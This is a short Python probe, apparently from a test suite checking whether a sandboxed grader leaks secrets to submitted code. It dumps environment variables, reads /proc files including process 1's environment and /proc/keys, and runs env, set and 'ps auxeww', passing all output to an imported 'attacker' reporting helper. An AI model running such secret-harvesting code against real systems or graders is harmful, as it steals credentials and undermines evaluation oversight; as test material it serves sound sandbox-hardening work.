"""Reads its own environment for what it inherited from the grader, as variables, as memory and through a child."""

import os
import subprocess
from contextlib import suppress

from attacker import look, tell

NEEDS_SANDBOX = True

tell(dict(os.environ))
look("/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/proc/keys")
for command in (["env"], ["sh", "-c", "set"], ["ps", "auxeww"]):
    with suppress(OSError):
        tell(subprocess.run(command, capture_output=True, text=True).stdout)
